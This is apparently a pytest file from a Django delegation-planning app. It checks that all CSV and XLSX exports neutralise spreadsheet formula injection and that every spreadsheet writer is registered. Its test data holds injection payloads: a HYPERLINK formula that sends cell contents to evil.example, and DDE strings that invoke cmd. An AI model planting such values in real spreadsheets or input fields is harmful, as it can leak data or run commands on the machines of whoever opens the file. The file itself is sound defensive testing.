"""Formula injection: no spreadsheet the planner writes holds a cell that Excel or LibreOffice would run.

Every CSV and XLSX writer goes through asemplanner/spreadsheets.py. WRITERS lists them; a module of the apps
that writes CSV or XLSX without being listed (and tested here) fails `test_every_spreadsheet_writer_is_listed`.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from asemplanner.spreadsheets import FORMULA_TRIGGERS, csv_cell, csv_row, xlsx_append
from delegations.domain.member_import.template import import_template
from tests.factories import DelegationFactory, UserFactory
from tests.signin import sign_in

ROOT = Path(__file__).resolve().parents[2]
APPS = ("asemplanner", "events", "delegations", "protocol", "badges", "reminders", "planning", "portal", "demo")
# Module → what it writes. Each has its tests below.
WRITERS = {
    "delegations/domain/member_import/template.py": "the member list templates (CSV and XLSX) liaisons download",
}
WRITES_SPREADSHEETS = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|xlsxwriter|text/csv")

# What a liaison could type into a name, a function or a phone, and what a spreadsheet would make of it.
INJECTIONS = [
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"Click")', id="equals"),
    pytest.param("+cmd|' /C calc'!A0", id="plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("\r=1+1", id="carriage_return"),
]


def is_neutral_csv_cell(text: str) -> bool:
    return not text.startswith(FORMULA_TRIGGERS)


def test_every_spreadsheet_writer_is_listed():
    found = {
        str(path.relative_to(ROOT))
        for app in APPS
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts and WRITES_SPREADSHEETS.search(path.read_text())
    }
    # The portal's template view names the CSV type for the download; the helper is the helper.
    found -= {"portal/member_import_views.py", "asemplanner/spreadsheets.py"}
    assert found == set(WRITERS), (
        f"spreadsheet writers not listed in {__file__} (write their cells through asemplanner/spreadsheets.py, "
        f"then add them to WRITERS with a test): {sorted(found - set(WRITERS))}"
    )
    for module in WRITERS:
        assert "asemplanner.spreadsheets" in (ROOT / module).read_text(), f"{module} writes cells itself"


@pytest.mark.parametrize("value", INJECTIONS)
def test_csv_cell_starting_a_formula_is_written_as_text(value):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["Dara", value, 42]))
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["Dara", "'" + value, "42"]
    assert all(is_neutral_csv_cell(cell) for cell in cells)


@pytest.mark.parametrize("value", INJECTIONS)
def test_xlsx_cell_starting_a_formula_is_a_quoted_string(value):
    workbook = Workbook()
    xlsx_append(workbook.active, ["Dara", value, 42, dt.date(2031, 5, 31)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    name, cell, number, date = row
    # Shown as typed (XML reads a carriage return back as a line feed), never run.
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)
    assert (name.value, name.quotePrefix) == ("Dara", False)
    assert number.value == 42 and number.data_type == "n"
    assert date.is_date


@pytest.mark.parametrize(
    ("value", "written"),
    [
        pytest.param("Minister of Foreign Affairs", "Minister of Foreign Affairs", id="text"),
        pytest.param("Dara = Sok", "Dara = Sok", id="equals_inside"),
        pytest.param(-3, -3, id="a_number"),
        pytest.param("", "", id="empty"),
    ],
)
def test_csv_cells_that_start_no_formula_are_kept(value, written):
    assert csv_cell(value) == written


def template_csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def assert_xlsx_runs_nothing(data: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(data)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                assert cell.quotePrefix, f"{cell.coordinate} looks like a formula and is not quoted: {cell.value!r}"
        values.append([cell.value for cell in row])
    return values


def test_member_template_csv_runs_nothing():
    rows = template_csv_cells(import_template("csv"))
    assert all(is_neutral_csv_cell(cell) for row in rows for cell in row)
    header, example = rows
    assert example[header.index("Phone")] == "'+855 12 345 678"  # the example phone would be a formula


def test_member_template_xlsx_runs_nothing():
    header, example, *_ = assert_xlsx_runs_nothing(import_template("xlsx"))
    assert example[header.index("Phone")] == "+855 12 345 678"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_member_template_download_runs_nothing(kind, client, db):
    """The call site: what a liaison downloads from the portal."""
    liaison = UserFactory(username="liaison-template", roles=["liaison"])
    delegation = DelegationFactory()
    delegation.liaisons.add(liaison)
    sign_in(client, liaison)
    response = client.get(reverse("portal:import_template", args=[delegation.pk, kind]))
    assert response.status_code == 200
    if kind == "csv":
        assert all(is_neutral_csv_cell(cell) for row in template_csv_cells(response.content) for cell in row)
    else:
        assert_xlsx_runs_nothing(response.content)
